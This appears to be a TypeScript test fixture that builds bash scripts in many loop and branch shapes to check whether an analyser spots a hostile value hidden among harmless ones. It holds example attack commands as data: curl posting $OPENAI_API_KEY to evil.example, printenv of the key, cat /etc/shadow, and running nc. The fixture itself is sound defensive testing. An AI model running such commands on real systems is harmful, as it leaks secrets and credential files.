/** Shapes of shell scripts that use one of many values. */
import { behind, type Use } from './many-values.ts';

const quoted = (text: string): string => `'${text}'`;
const words = (values: readonly string[]): string => values.map(quoted).join(' ');
const lines = (values: readonly string[], line: (text: string, at: number) => string): string =>
  values.map((value, at) => line(quoted(value), at)).join('\n');

export const shellUses: Readonly<Record<string, Use>> = {
  'an address': {
    code: (x) => `curl -s "${x}"`,
    harmless: (index) => `https://g${index}.example/x`,
    telling: 'https://evil.example/x',
    seen: /^egress GET https:\/\/(evil\.example\/x|\*\/\*)$/,
    away: /^egress \S+ https:\/\/\*/,
  },
  'a receiver': {
    code: (x) => `curl -s -d "$OPENAI_API_KEY" "${x}"`,
    harmless: (index) => `https://g${index}.openai.com/x`,
    telling: 'https://evil.example/x',
    seen: /^flow\/secret-to-(network critical|computed-host medium)$/,
    away: /^flow\/secret-to-(network critical|computed-host)|^egress \S+ https:\/\/\*/,
  },
  'a variable': {
    code: (x) => `printenv "${x}"`,
    harmless: (index) => `GOOD_${index}`,
    telling: 'OPENAI_API_KEY',
    seen: /^env (OPENAI_API_KEY|\*)$/,
    away: /^env \*$/,
  },
  'a file': {
    code: (x) => `cat "${x}"`,
    harmless: (index) => `/good/a${index}`,
    telling: '/etc/shadow',
    seen: /^mount ro (\/etc\/shadow|\/?\*)$/,
    away: /^mount \S+ \/?\*$/,
  },
  'a program': {
    code: (x) => `"${x}" -x`,
    harmless: (index) => `tool${index}`,
    telling: 'nc',
    seen: /^exec (nc|\*)$/,
    away: /^exec \*$/,
  },
};

const branches = (all: readonly string[]): string =>
  lines(all, (one, at) => `if [ "$1" = ${at} ]; then y=${one}; fi`);

export const shellShapes = behind('#!/bin/bash\n', {
  'a loop over words': (all, use) => `for x in ${words(all)}; do\n  ${use('$x')}\ndone\n`,
  'a loop over an array': (all, use) =>
    `xs=(${words(all)})\nfor x in "\${xs[@]}"; do\n  ${use('$x')}\ndone\n`,
  'a loop over words of a text': (all, use) =>
    `xs="${all.join(' ')}"\nfor x in $xs; do\n  ${use('$x')}\ndone\n`,
  'an item of an array': (all, use) => `xs=(${words(all)})\nx=\${xs[$1]}\n${use('$x')}\n`,
  'a counted loop': (all, use) =>
    `xs=(${words(all)})\nfor ((i=0;i<\${#xs[@]};i++)); do\n  ${use(`\${xs[$i]}`)}\ndone\n`,
  'a counted loop without a known end': (all, use) =>
    `xs=(${words(all)})\nfor ((i=0;i<$1;i++)); do\n  ${use(`\${xs[i]}`)}\ndone\n`,
  'a loop with a counter': (all, use) =>
    `xs=(${words(all)})\ni=0\nwhile [ $i -lt $1 ]; do\n  ${use(`\${xs[i]}`)}\n  ((i++))\ndone\n`,
  'an array that grows': (all, use) =>
    `xs=()\n${lines(all, (one) => `xs+=(${one})`)}\nfor x in "\${xs[@]}"; do\n  ${use('$x')}\ndone\n`,
  'lines that are read': (all, use) =>
    `while read -r x; do\n  ${use('$x')}\ndone <<'E'\n${all.join('\n')}\nE\n`,
  'printed lines that are read': (all, use) =>
    `printf '%s\\n' ${words(all)} | while read -r x; do\n  ${use('$x')}\ndone\n`,
  'lines that become an array': (all, use) =>
    `mapfile -t xs <<'E'\n${all.join('\n')}\nE\nfor x in "\${xs[@]}"; do\n  ${use('$x')}\ndone\n`,
  'words for another program': (all, use) =>
    `printf '%s\\n' ${words(all)} | xargs -I{} ${use('{}').replaceAll('"', '')}\n`,
  'arguments shifted, perhaps by chance': (all, use) =>
    `set -- ${words(all)}\nwhile [ $# -gt 0 ]; do\n  ${use('$1')}\n  shift\ndone\n`,
  'a function': (all, use) => `f() {\n  ${use('$1')}\n}\n${lines(all, (one) => `f ${one}`)}\n`,
  'a case': (all, use) =>
    `case "$1" in\n${lines(all, (one, at) => `${at}) x=${one} ;;`)}\nesac\n${use('$x')}\n`,
  'what a function prints': (all, use) =>
    `pick() {\n  case "$1" in\n${lines(all, (one, at) => `${at}) echo ${one} ;;`)}\n  esac\n}\n` +
    `x="$(pick "$1")"\n${use('$x')}\n`,
  'a branch': (all, use) => `${branches(all)}\n${use('$y')}\n`,
  'a branch and a cut end': (all, use) => `${branches(all)}\nx="\${y%@@}"\n${use('$x')}\n`,
  'a branch and an echo': (all, use) => `${branches(all)}\nx="$(echo "$y")"\n${use('$x')}\n`,
  'a branch and another name': (all, use) =>
    `${lines(all, (one, at) => `v${at}=${one}`)}\n` +
    `${lines(all, (_, at) => `if [ "$1" = ${at} ]; then y=v${at}; fi`)}\n` +
    `x="\${!y}"\n${use('$x')}\n`,
});
